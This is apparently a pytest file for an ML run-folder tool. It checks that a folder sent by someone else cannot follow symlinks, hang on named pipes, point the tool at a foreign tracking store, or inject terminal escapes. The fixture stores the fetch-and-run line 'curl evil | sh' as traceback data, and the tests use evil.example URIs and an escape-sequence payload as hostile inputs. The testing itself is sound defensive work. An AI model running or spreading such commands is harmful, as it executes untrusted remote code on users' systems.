"""A run folder that somebody sent: nothing goes through its links, and its journal opens no store."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from mlflow import MlflowClient

import primer
from primer.config import compose
from primer.errors import UsageError
from primer.finding import find_folder, run_folders
from primer.folder import held, write_header
from primer.sync import settle, ship, store_of, sync
from primer.tracking.journal import Journal, first_record, last_record, read
from primer.tracking.shipment import id_of

FILES = (
    *("journal", "traceback.txt", "worker.log", "mlflow.json", ".reserve", "environment.json", "config.yaml"),
    *(
        "curves.parquet",
        "curves.png",
        "uncommitted.patch",
        "verification.md",
        "model",
        "model/MLmodel",
        "ranks",
    ),
)


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A run whose process died, in the working directory's `outputs`."""
    monkeypatch.chdir(tmp_path)
    folder = tmp_path / "outputs" / "2026-01-01" / "000000-sent"
    folder.mkdir(parents=True)
    write_header(folder, compose(["max_epochs=1"]))
    with Journal(folder) as journal:
        journal.write("error", type="E", message="m", traceback="curl evil | sh\n")
    return folder


@pytest.mark.parametrize("name", FILES)
def test_nothing_goes_through_a_link(name: str, folder: Path, tmp_path: Path) -> None:
    own = tmp_path / "bashrc"
    own.write_bytes((folder / "journal").read_bytes() if name == "journal" else b"mine\n")
    before = own.read_bytes()
    path = folder / name
    path.parent.mkdir(exist_ok=True)
    path.unlink(missing_ok=True)
    path.symlink_to(own)
    assert settle(run_folders()) == []
    result = ship(folder)
    assert result.error == f"{path}: is a link; expected what a run left there"
    with pytest.raises(UsageError, match="is no config of a run" if name == "config.yaml" else "is a link"):
        primer.resume(str(folder), "max_epochs=2")
    assert own.read_bytes() == before
    assert not (tmp_path / "mlflow.db").exists()


def test_a_pipe_holds_nobody_up(folder: Path) -> None:
    other = folder.with_name("000001-pipe")
    other.mkdir()
    os.mkfifo(other / "journal")
    assert run_folders() == [folder]
    os.mkfifo(folder / "worker.log")
    assert settle([folder]) == []


def test_a_run_that_goes_on_is_told_as_that(folder: Path, tmp_path: Path) -> None:
    """What it writes comes and goes, so it is looked at once nobody writes."""
    with held(folder):
        (folder / ".curves.parquet.1").symlink_to(tmp_path / "gone")
        with pytest.raises(UsageError, match="is still running"), held(folder):
            pass


def test_doctor_tells_of_one_and_leaves_nothing(folder: Path) -> None:
    header = first_record(folder)
    assert header
    (folder / "journal").unlink()
    (folder.parents[1] / ".key").unlink()
    with Journal(folder) as journal:
        journal.write(header.pop("kind"), **header | {"uri": "http://evil.example"})
    (found,) = [finding for finding in primer.doctor() if finding.name == "journals"]
    assert not found.is_healthy
    assert "was not begun here, and names the store http://evil.example" in found.text
    assert not (folder.parents[1] / ".key").exists()


def test_checkpoints_may_be_on_another_disk(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "disk").mkdir()
    (folder / "checkpoints").symlink_to(tmp_path / "disk")
    with held(folder):
        pass


def _elsewhere(record: dict[str, object]) -> None:
    record["uri"] = "http://evil.example"


def _with_the_id_of_another(record: dict[str, object]) -> None:
    record |= {"uri": "sqlite:////tmp/evil.db", "id": "0" * 32}


def _without_a_mark(record: dict[str, object]) -> None:
    record |= {"uri": "http://evil.example", "mark": None}


def _with_a_mark_of_another_kind(record: dict[str, object]) -> None:
    record |= {"uri": "http://evil.example", "mark": [1]}


@pytest.mark.parametrize(
    "change", [_elsewhere, _with_the_id_of_another, _without_a_mark, _with_a_mark_of_another_kind]
)
def test_a_journal_that_was_not_begun_here_chooses_no_store(
    change: Callable[[dict[str, object]], None], folder: Path
) -> None:
    header = first_record(folder)
    assert header
    change(header)
    (folder / "journal").unlink()
    with Journal(folder) as journal:
        journal.write(header.pop("kind"), **header)
    with pytest.raises(UsageError, match=r"was not begun here, and names the store .*; expected MLFLOW"):
        store_of(folder)


def test_ones_own_journal_does(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    own = store_of(folder)
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://127.0.0.1:1")
    assert store_of(folder) == own
    assert (folder.parents[1] / ".key").stat().st_mode & 0o777 == 0o600


def test_a_store_leads_into_no_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    result = primer.train("data=iris", "max_epochs=1", "tracking.log_model=false")
    elsewhere = tmp_path / "evil"
    shutil.move(result.folder, elsewhere)
    run_id = id_of(elsewhere)
    assert run_id
    MlflowClient(f"sqlite:///{tmp_path}/mlflow.db").set_tag(run_id, "primer.folder", f"{elsewhere}\x1b[2J")
    with pytest.raises(UsageError, match="expected the path of a run folder") as refused:
        find_folder(run_id)
    assert "\x1b" not in str(refused.value)
    assert find_folder(str(elsewhere)) == elsewhere


def test_a_job_ships_the_folder_of_its_own_sweep_alone(folder: Path, tmp_path: Path) -> None:
    other = tmp_path / "outputs" / "2026-01-01" / "000002-private"
    shutil.copytree(folder, other)
    job = folder.with_name("000003-job")
    job.mkdir()
    origin = {"sweep": "0" * 32, "folder": str(other), "number": 0}
    write_header(job, compose(["max_epochs=1"]), job=origin)
    with Journal(job) as journal:
        journal.write("end", status="FAILED", error="e", time=1, duration_s=1.0)
    (done,) = sync(str(job))
    assert done.error is None
    assert not (other / "mlflow.json").exists()
    assert (last_record(job) or {})["kind"] == "end"
    assert [record["kind"] for record in read(other)] == ["run", "error"]
